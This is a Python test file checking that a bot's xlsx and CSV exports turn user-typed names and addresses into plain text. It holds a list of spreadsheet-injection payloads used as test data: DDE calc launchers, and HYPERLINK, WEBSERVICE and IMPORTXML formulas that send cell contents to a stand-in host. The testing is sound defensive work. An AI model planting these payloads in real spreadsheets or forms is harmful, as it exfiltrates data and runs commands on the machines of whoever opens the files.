"""Spreadsheet injection: text people typed or named never becomes a formula in the office's xlsx."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from bot.export import cell_value
from storage.models import NewEntry

from .helpers import Harness

TZ = ZoneInfo("Asia/Shanghai")
# What a careful adversary types as a name, an address or an org name (OWASP's CSV-injection
# payloads, and one of each leading character that makes Excel or WPS read a formula).
ATTACKS = [
    '=HYPERLINK("http://x.example/?"&B3,"点我")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "=SUM(A1:A9)",
    '=WEBSERVICE("http://x.example/")',
    '=IMPORTXML(CONCAT("http://x.example/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "=A1",
    "==1",
    "+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
]
PRINTABLE = [a for a in ATTACKS if a.isprintable()]  # an org name may not hold a tab or CR (the importer refuses)
TEX = "收入$\\frac{1}{$"  # the chart must not read a name as TeX (matplotlib's mathtext)


def test_cell_value_neutralises_every_formula_start():
    assert len(ATTACKS) == 17
    for attack in ATTACKS:
        assert cell_value(attack) == "'" + attack
    for harmless in ("张三", "百花桥村 3组", "", "1+1", "a=1"):
        assert cell_value(harmless) == harmless
    assert cell_value("\x01=1") == "'=1"        # a control character cannot hide the formula
    assert cell_value(5) == 5 and cell_value(None) is None


def test_a_csv_written_through_cell_value_reads_back_as_text():
    out = io.StringIO()
    csv.writer(out).writerows([[cell_value(a)] for a in ATTACKS])
    back = [row[0] for row in csv.reader(io.StringIO(out.getvalue()))]
    assert all(v.startswith("'") for v in back) and [v[1:] for v in back] == ATTACKS


def _tree() -> str:
    lines = ["code,name,kind,parent,households,population", "T,武陵山乡,township,,100,300"]
    for i, name in enumerate(PRINTABLE + [TEX]):
        quoted = '"' + name.replace('"', '""') + '"'
        lines += [f"V{i},{quoted},village,T,10,30", f"G{i},{quoted},grid,V{i},10,30"]
    return "\n".join(lines) + "\n"


async def test_the_office_xlsx_holds_no_formula_from_user_text(tmp_path):
    orgs = tmp_path / "orgs.csv"
    orgs.write_text(_tree(), encoding="utf-8")
    async with Harness(tmp_path, datetime(2026, 11, 24, 10, 0, tzinfo=TZ)) as h:
        await h.import_orgs(orgs)
        await h.join(301, "T", "office")
        for i, attack in enumerate(ATTACKS):
            uid, grid = 1000 + i, await h.storage.orgs.by_code(f"G{i % len(PRINTABLE)}")
            invite = await h.storage.users.create_invite(grid.id, "worker", 1, 7, h.clock.now())
            await h.send(uid, f"/start {invite.code}", name=attack)       # the display name
            user = await h.user(uid)
            assert user is not None and user.name == attack
            await h.storage.entries.add([NewEntry(              # a typed address
                user_id=user.id, org_id=grid.id, kind="visit", measures={"households": 1},
                happened_on=date(2026, 11, 23), address=attack, source="flow")], h.clock.now())
        await h.send(301, "/export 2026-11")
        [(_, data)] = h.documents(301)
        [chart] = [s.photo for s in h.chan.said if s.chat == "301" and s.photo]
    assert chart[:4] == b"\x89PNG"
    book = load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for attack in ATTACKS:                          # each one is there, as text (xlsx stores a CR as LF)
        assert "'" + attack.replace("\r", "\n") in texts


async def test_the_evidence_list_holds_no_formula_from_user_text(tmp_path):
    """清单.csv in the 佐证材料 zip: names, org names, addresses and report notes as text;
    file names inside the zip never leave their village's folder."""
    import hashlib
    import zipfile

    from storage.models import NewPhoto

    orgs = tmp_path / "orgs.csv"
    orgs.write_text(_tree(), encoding="utf-8")
    async with Harness(tmp_path, datetime(2026, 11, 24, 10, 0, tzinfo=TZ)) as h:
        await h.import_orgs(orgs)
        await h.join(301, "T", "office")
        folder = h.settings.data_dir / "evidence"
        folder.mkdir()
        for i, attack in enumerate(ATTACKS):
            uid, grid = 1000 + i, await h.storage.orgs.by_code(f"G{i % len(PRINTABLE)}")
            invite = await h.storage.users.create_invite(grid.id, "worker", 1, 7, h.clock.now())
            await h.send(uid, f"/start {invite.code}", name=attack)
            user = await h.user(uid)
            data = f"photo {i}".encode()
            sha = hashlib.sha256(data).hexdigest()
            (folder / f"{sha}.jpg").write_bytes(data)
            await h.storage.entries.add([NewEntry(
                user_id=user.id, org_id=grid.id, kind="visit", measures={"households": 1},
                happened_on=date(2026, 11, 23), address=attack, source="flow",
                photos=[NewPhoto(file_id=f"F{i}", file_unique_id=f"U{i}", sha256=sha, path=str(folder / f"{sha}.jpg"))])],
                h.clock.now())
        await h.act(301, "proof:zip:2026-11")
        [(_, data)] = h.documents(301)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        names = zf.namelist()
        listing = list(csv.reader(io.StringIO(zf.read("清单.csv").decode("utf-8-sig"))))
    assert len(names) == len(ATTACKS) + 1
    assert all(n.count("/") == 1 and "\\" not in n and not n.startswith("/") for n in names if n != "清单.csv")
    fields = [f for row in listing[1:] for f in row]
    assert not [f for f in fields if f.startswith(FORMULA_STARTS)]     # nothing a spreadsheet would run
    for attack in ATTACKS:                          # the name and the address (trimmed), each as text
        assert "'" + attack in fields and "'" + attack.strip() in fields, attack
    for name in PRINTABLE:                          # the org (village) name too
        assert "'" + name in fields, name


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
